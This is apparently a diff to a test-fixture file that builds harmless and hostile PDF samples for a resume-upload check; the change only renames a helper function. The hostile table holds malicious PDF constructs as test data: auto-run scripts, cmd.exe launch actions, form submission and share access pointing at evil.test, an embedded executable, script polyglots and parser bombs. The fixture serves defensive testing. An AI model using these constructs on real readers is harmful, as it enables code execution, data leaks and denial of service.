@@ -29,7 +29,13 @@ interface PdfParts {
 }
 
 /** A PDF of one page, with a table of references (ISO 32000-2, 7.5). */
-function pdfOf({ catalog = "", page: more = "", objects = [], trailer = "", remark }: PdfParts) {
+function createPdf({
+  catalog = "",
+  page: more = "",
+  objects = [],
+  trailer = "",
+  remark,
+}: PdfParts) {
   const all = [
     `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
     pages,
@@ -56,7 +62,7 @@ function pdfOf({ catalog = "", page: more = "", objects = [], trailer = "", rema
 }
 
 /** A PDF that anybody may send; texts make different ones. */
-export const pdf = (text = "resume"): Buffer => pdfOf({ remark: text });
+export const pdf = (text = "resume"): Buffer => createPdf({ remark: text });
 
 /** A PDF whose objects from number 5 on are in one packed stream of objects (ISO 32000-2, 7.5.7). */
 function pdfWithPacked(catalog: string, objects: string[], padding = 0): Buffer {
@@ -106,12 +112,12 @@ const link = (action: string) =>
 
 /** What resumes hold that does no harm, by what it is. */
 export const harmlessPdfs: Record<string, () => Buffer> = {
-  "a link": () => pdfOf({ page: link("<< /S /URI /URI (https://example.com/) >>") }),
-  "a place to open at": () => pdfOf({ catalog: "/OpenAction [3 0 R /XYZ null null 0]" }),
+  "a link": () => createPdf({ page: link("<< /S /URI /URI (https://example.com/) >>") }),
+  "a place to open at": () => createPdf({ catalog: "/OpenAction [3 0 R /XYZ null null 0]" }),
   "a place to open at, as an action": () =>
-    pdfOf({ catalog: "/OpenAction << /S /GoTo /D [3 0 R /Fit] >>" }),
+    createPdf({ catalog: "/OpenAction << /S /GoTo /D [3 0 R /Fit] >>" }),
   "a field to fill in": () =>
-    pdfOf({
+    createPdf({
       catalog: "/AcroForm << /Fields [5 0 R] >>",
       objects: ["<< /FT /Tx /T (name) /Subtype /Widget /Rect [0 0 9 9] /P 3 0 R >>"],
     }),
@@ -132,34 +138,34 @@ export const hostilePdfs: Record<string, () => Buffer> = {
   "a PDF without a page": () =>
     Buffer.from(pdf().toString("latin1").replace("[3 0 R] /Count 1", "[     ] /Count 0"), "latin1"),
   "a PDF that asks for a password": () =>
-    pdfOf({
+    createPdf({
       trailer: `/ID [<00> <00>] /Encrypt << /Filter /Standard /V 1 /R 2 /P -4 /O <${"12".repeat(32)}> /U <${"34".repeat(32)}> >>`,
     }),
-  "a PDF with a script when it opens": () => pdfOf({ catalog: `/OpenAction ${script}` }),
+  "a PDF with a script when it opens": () => createPdf({ catalog: `/OpenAction ${script}` }),
   "a PDF with a script whose name is disguised": () =>
-    pdfOf({ catalog: `/OpenAction ${script.replaceAll("J", "#4a")}` }),
+    createPdf({ catalog: `/OpenAction ${script.replaceAll("J", "#4a")}` }),
   "a PDF with a script in a packed object": () => pdfWithPacked("/OpenAction 5 0 R", [script]),
-  "a PDF with a script when a page shows": () => pdfOf({ page: `/AA << /O ${script} >>` }),
-  "a PDF with a script behind a click": () => pdfOf({ page: link(script) }),
+  "a PDF with a script when a page shows": () => createPdf({ page: `/AA << /O ${script} >>` }),
+  "a PDF with a script behind a click": () => createPdf({ page: link(script) }),
   "a PDF with a script behind a place": () =>
-    pdfOf({ catalog: `/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [${script}] >>` }),
+    createPdf({ catalog: `/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [${script}] >>` }),
   "a PDF with a script by its name": () =>
-    pdfOf({ catalog: "/Names << /JavaScript << /Names [(a) 5 0 R] >> >>", objects: [script] }),
-  "a PDF with a script that nothing refers to": () => pdfOf({ objects: [script] }),
+    createPdf({ catalog: "/Names << /JavaScript << /Names [(a) 5 0 R] >> >>", objects: [script] }),
+  "a PDF with a script that nothing refers to": () => createPdf({ objects: [script] }),
   "a PDF that starts a program": () =>
-    pdfOf({ catalog: "/OpenAction << /S /Launch /F (cmd.exe) >>" }),
+    createPdf({ catalog: "/OpenAction << /S /Launch /F (cmd.exe) >>" }),
   "a PDF that starts a program after a click": () =>
-    pdfOf({ page: link("<< /S /Launch /Win << /F (cmd.exe) >> >>") }),
+    createPdf({ page: link("<< /S /Launch /Win << /F (cmd.exe) >> >>") }),
   "a PDF that opens an address by itself": () =>
-    pdfOf({ catalog: "/OpenAction << /S /URI /URI (https://evil.test/) >>" }),
+    createPdf({ catalog: "/OpenAction << /S /URI /URI (https://evil.test/) >>" }),
   "a PDF that opens an address with its page": () =>
-    pdfOf({ page: "/AA << /O << /S /URI /URI (https://evil.test/) >> >>" }),
+    createPdf({ page: "/AA << /O << /S /URI /URI (https://evil.test/) >> >>" }),
   "a PDF that opens a file on a share": () =>
-    pdfOf({ page: "/AA << /O << /S /GoToR /F (\\\\\\\\evil.test\\\\a) /D [0 /Fit] >> >>" }),
+    createPdf({ page: "/AA << /O << /S /GoToR /F (\\\\\\\\evil.test\\\\a) /D [0 /Fit] >> >>" }),
   "a PDF that sends a form": () =>
-    pdfOf({ page: link("<< /S /SubmitForm /F (https://evil.test/) >>") }),
+    createPdf({ page: link("<< /S /SubmitForm /F (https://evil.test/) >>") }),
   "a PDF with a file in it": () =>
-    pdfOf({
+    createPdf({
       catalog: "/Names << /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >>",
       objects: [
         "<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>",
@@ -167,19 +173,20 @@ export const hostilePdfs: Record<string, () => Buffer> = {
       ],
     }),
   "a PDF with a file pinned to its page": () =>
-    pdfOf({ page: "/Annots [<< /Subtype /FileAttachment /Rect [0 0 9 9] >>]" }),
-  "a PDF with a form of XML": () => pdfOf({ catalog: "/AcroForm << /Fields [] /XFA (x) >>" }),
-  "a PDF with a film": () => pdfOf({ page: "/Annots [<< /Subtype /RichMedia /Rect [0 0 9 9] >>]" }),
+    createPdf({ page: "/Annots [<< /Subtype /FileAttachment /Rect [0 0 9 9] >>]" }),
+  "a PDF with a form of XML": () => createPdf({ catalog: "/AcroForm << /Fields [] /XFA (x) >>" }),
+  "a PDF with a film": () =>
+    createPdf({ page: "/Annots [<< /Subtype /RichMedia /Rect [0 0 9 9] >>]" }),
   "a PDF with a part from elsewhere": () =>
-    pdfOf({ objects: [stream("", "/F << /FS /URL /F (https://evil.test/) >>")] }),
+    createPdf({ objects: [stream("", "/F << /FS /URL /F (https://evil.test/) >>")] }),
   "a PDF that is a page too": () => pdf("--><html><script>alert(1)</script>"),
   "a PDF that is a page too, in a stream": () =>
-    pdfOf({ objects: ["<< /Length 25 >>\nstream\n<SCRIPT>alert(1)</SCRIPT>\nendstream"] }),
+    createPdf({ objects: ["<< /Length 25 >>\nstream\n<SCRIPT>alert(1)</SCRIPT>\nendstream"] }),
   "a PDF whose packed objects are a bomb": () =>
     pdfWithPacked("/Names 5 0 R", ["<< >>"], 250 * 1024 * 1024),
   "a PDF of a million objects": () =>
     pdfWithPacked("/Names 5 0 R", [`[${"<< /A /B >> ".repeat(2_000_000)}]`]),
-  "a PDF nested without an end": () => pdfOf({ catalog: `/X ${"[".repeat(1_000_000)}` }),
+  "a PDF nested without an end": () => createPdf({ catalog: `/X ${"[".repeat(1_000_000)}` }),
   "a PDF whose pages run in a circle": () =>
     Buffer.from(pdf().toString("latin1").replace("/Kids [3 0 R]", "/Kids [2 0 R]"), "latin1"),
 };
